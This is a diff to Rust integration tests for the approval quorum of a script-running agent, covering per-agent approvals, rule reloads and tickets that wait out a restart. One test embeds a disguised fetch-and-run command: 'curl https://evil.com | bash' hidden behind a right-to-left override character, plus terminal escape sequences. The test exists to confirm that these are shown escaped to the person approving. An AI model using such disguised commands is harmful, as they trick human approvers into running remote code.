@@ -45,20 +45,33 @@ impl Approvers {
     }
 }
 
-/// An agent trusting the test dispatcher key and the three approvers, named, under `RULE`.
-async fn approving_agent(what: &str, approvers: &Approvers) -> AgentProcess {
-    let mut config = test_config(what);
-    let file = std::env::temp_dir().join(format!("{}.trusted", config.agent_id));
+/// Writes the trusted keys of an agent: the test dispatcher key and the three approvers, named,
+/// and `rule` if any.
+fn write_trusted(file: &std::path::Path, approvers: &Approvers, rule: Option<&str>) {
     let text = format!(
-        "{} test dispatcher\n{} name=release-manager\n{} name=oncall\n{} name=security\n{RULE}\n",
+        "{} test dispatcher\n{} name=release-manager\n{} name=oncall\n{} name=security\n{}\n",
         trust::keys().dispatcher.public(),
         approvers.key(0).public(),
         approvers.key(1).public(),
-        approvers.key(2).public()
+        approvers.key(2).public(),
+        rule.unwrap_or("")
     );
-    std::fs::write(&file, text).expect("trusted keys");
+    trust::write_atomically(file, &text);
+}
+
+/// The configuration of an agent trusting the test dispatcher key and the three approvers,
+/// under `rule` if any.
+fn approving_config(what: &str, approvers: &Approvers, rule: Option<&str>) -> worker_agent::config::AgentConfig {
+    let mut config = test_config(what);
+    let file = std::env::temp_dir().join(format!("{}.trusted", config.agent_id));
+    write_trusted(&file, approvers, rule);
     config.trusted_keys_file = Some(file);
-    AgentProcess::start(config).await
+    config
+}
+
+/// An agent trusting the test dispatcher key and the three approvers, named, under `RULE`.
+async fn approving_agent(what: &str, approvers: &Approvers) -> AgentProcess {
+    AgentProcess::start(approving_config(what, approvers, Some(RULE))).await
 }
 
 /// A signed start of `spec` under `ticket` for `target`, as a dispatcher encodes it.
@@ -151,6 +164,80 @@ async fn the_agent_runs_a_command_only_with_enough_distinct_valid_approvals() {
     named.sort();
     assert_eq!(named, expected, "{receipt}");
     assert_eq!((receipt["purpose"].as_str(), receipt["submitter"].as_str()), (Some("deployment"), Some("cli:ada")));
+    raw.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn approvals_count_only_for_the_agent_itself_even_for_unsigned_commands() {
+    let approvers = Approvers::new();
+    let mut config = approving_config("approvals-unsigned", &approvers, Some(RULE));
+    config.insecure_allow_unsigned = true;
+    let agent = AgentProcess::start(config).await;
+    let id = agent.config.agent_id.clone();
+    let markers = Markers::new();
+    let spec =
+        ScriptSpec { script: markers.record("deploy"), purpose: Some("deployment".into()), ..Default::default() };
+    let approved_for = |target: &str| {
+        let digest = command_digest(&spec, target);
+        let approvals = (0..2).map(|i| approve(approvers.key(i), &digest, now_ms() + 60_000)).collect();
+        ScriptSpec { approvals, ..spec.clone() }
+    };
+    let mut raw = RawBroker::connect().await;
+    let queue = contracts::wire::topology::agent_queue(&id);
+    // Unsigned, addressed to another agent (not checked when unsigned), approved for that one.
+    let body = start("another-agent", &edge::entropy::ticket(), approved_for("another-agent"));
+    let correlation = raw.publish_to(&queue, "StartScriptV2", &body, None).await;
+    let Reply::Error(refused) = raw.reply(&correlation).await else { panic!("another agent's approvals counted") };
+    assert!(refused.message.contains("approves another command"), "{}", refused.message);
+    // Approved for this agent: it runs.
+    let body = start(&id, &edge::entropy::ticket(), approved_for(&id));
+    let correlation = raw.publish_to(&queue, "StartScriptV2", &body, None).await;
+    assert!(matches!(raw.reply(&correlation).await, Reply::ScriptStatus(_)));
+    eventually("the approved run", Duration::from_secs(20), || async { (markers.count("deploy") == 1).then_some(()) })
+        .await;
+    raw.close().await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_copy_of_a_start_claimed_before_the_rules_changed_gets_its_status() {
+    let approvers = Approvers::new();
+    let config = approving_config("approvals-reload", &approvers, None);
+    let trusted = config.trusted_keys_file.clone().unwrap();
+    let agent = AgentProcess::start(config).await;
+    let id = agent.config.agent_id.clone();
+    let markers = Markers::new();
+    let gate = markers.dir.join("gate");
+    // Bounded: a failing test leaves no script behind.
+    let script = format!(
+        "{}; for i in $(seq 600); do [ -e '{}' ] && break; sleep 0.05; done",
+        markers.record("deploy"),
+        gate.display()
+    );
+    let spec = ScriptSpec { script, purpose: Some("deployment".into()), ..Default::default() };
+    let (ticket, mut raw) = (edge::entropy::ticket(), RawBroker::connect().await);
+    let correlation = raw.publish(&id, "StartScriptV2", &start(&id, &ticket, spec.clone())).await;
+    assert!(matches!(raw.reply(&correlation).await, Reply::ScriptStatus(_)), "no rule yet: it runs");
+    eventually("the script running", Duration::from_secs(20), || async {
+        (markers.count("deploy") == 1).then_some(())
+    })
+    .await;
+    // Now the agent requires approvals (reloaded on SIGHUP, as its capabilities then say).
+    write_trusted(&trusted, &approvers, Some(RULE));
+    agent.signal(nix::sys::signal::Signal::SIGHUP);
+    eventually("the rule in force", Duration::from_secs(20), || async {
+        let out = run_dispatcher(&["capabilities", &id]).await;
+        text(&out.stdout).contains(RULE).then_some(())
+    })
+    .await;
+    // A copy of the start it runs is answered with its status, not "nothing ran".
+    let correlation = raw.publish(&id, "StartScriptV2", &start(&id, &ticket, spec.clone())).await;
+    let Reply::ScriptStatus(status) = raw.reply(&correlation).await else { panic!("a running script said not to run") };
+    assert_eq!(status.ticket, ticket);
+    // The same command under a new ticket is refused.
+    let correlation = raw.publish(&id, "StartScriptV2", &start(&id, &edge::entropy::ticket(), spec)).await;
+    assert!(matches!(raw.reply(&correlation).await, Reply::Error(e) if e.kind == ErrorKind::NotAuthorized));
+    std::fs::write(&gate, "").unwrap();
+    assert_eq!(markers.count("deploy"), 1);
     raw.close().await;
 }
 
@@ -249,7 +336,7 @@ async fn a_detached_command_waits_for_its_quorum_and_runs_once_when_the_last_app
         ..Default::default()
     };
     assert!(shown.contains(&format!("digest:     {}", command_digest(&spec, &id))), "{shown}");
-    assert!(shown.contains("purpose:    deployment") && shown.contains("arg:        \"v2\""), "{shown}");
+    assert!(shown.contains("purpose:    deployment") && shown.contains("arg:        v2"), "{shown}");
     // The same key again counts once: still one approval of two.
     let approved_ms = now_ms();
     let out = run_cli(&["approve", &ticket, "--approval-key", approvers.file(1), "--yes"], &prefix).await;
@@ -275,6 +362,61 @@ async fn a_detached_command_waits_for_its_quorum_and_runs_once_when_the_last_app
     let out = run_cli(&["approve", &ticket, "--approval-key", approvers.file(0), "--yes"], &prefix).await;
     assert_eq!(out.status.code(), Some(1), "nothing left to approve");
     assert!(text(&out.stderr).contains("no longer waits for approvals"), "{}", text(&out.stderr));
+
+    // A command made to mislead its approver on a terminal is shown escaped, every character.
+    let script = "echo safe\u{202e} ;hsab | moc.live//:sptth lruc\r\necho second";
+    let body = serde_json::json!({"target": id, "script": script, "env": {"A\u{1b}[2J": "v\u{200b}"}, "args": ["\u{1b}]0;x\u{7}"]});
+    let response = http().post(format!("{}/v1/scripts", service.url)).json(&body).send().await.unwrap();
+    let accepted: Value = response.json().await.unwrap();
+    let hostile = accepted["tickets"][0]["ticket"].as_str().unwrap().to_owned();
+    eventually("the hostile ticket to wait", Duration::from_secs(20), || async {
+        (ticket_view(&service, &hostile).await["state"] == "awaiting-approval").then_some(())
+    })
+    .await;
+    let out = run_cli(&["approve", &hostile, "--approval-key", approvers.file(0), "--yes"], &prefix).await;
+    let shown = text(&out.stdout);
+    assert!(!shown.chars().any(|c| c.is_control() && c != '\n' || !c.is_ascii()), "{shown:?}");
+    for escaped in
+        ["safe\\u{202e} ;hsab", "lruc\\u{d}", "env:        A\\u{1b}[2J=v\\u{200b}", "arg:        \\u{1b}]0;x\\u{7}"]
+    {
+        assert!(shown.contains(escaped), "{escaped} in {shown}");
+    }
+    service.stop().await;
+    remove_journal(&prefix).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_waiting_ticket_outlives_its_agent_being_away_and_runs_once_approved() {
+    let approvers = Approvers::new();
+    let mut agent = approving_agent("approvals-away", &approvers).await;
+    let id = agent.config.agent_id.clone();
+    let prefix = journal_prefix("approvals-away");
+    let mut service = ServiceProcess::start(&prefix, &[]).await;
+    let markers = Markers::new();
+    let args = ["submit", "--detach", "--retry-duration", "3s", "--target", &id, "--"];
+    let out = run_cli(&[&args[..], &[markers.record("deploy").as_str()]].concat(), &prefix).await;
+    let ticket = text(&out.stdout).trim().to_owned();
+    eventually("the ticket to wait for approvals", Duration::from_secs(20), || async {
+        (ticket_view(&service, &ticket).await["state"] == "awaiting-approval").then_some(())
+    })
+    .await;
+    // The agent goes away, and the service restarts without knowing what it enforces.
+    agent.kill().await;
+    service.kill().await;
+    service.restart().await;
+    let restarted_ms = now_ms();
+    followed_again(&service, &id, restarted_ms).await;
+    followed_again(&service, &id, now_ms()).await;
+    assert_eq!(ticket_view(&service, &ticket).await["state"], "awaiting-approval", "still waiting, not failed");
+    // Back, and approved: it runs, once.
+    agent.restart().await;
+    for index in [0, 2] {
+        let out = run_cli(&["approve", &ticket, "--approval-key", approvers.file(index), "--yes"], &prefix).await;
+        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    }
+    let finished = service.finished(&ticket, Duration::from_secs(60)).await;
+    assert_eq!(finished["outcome"], "completed", "{finished}");
+    assert_eq!(markers.count("deploy"), 1);
     service.stop().await;
     remove_journal(&prefix).await;
 }
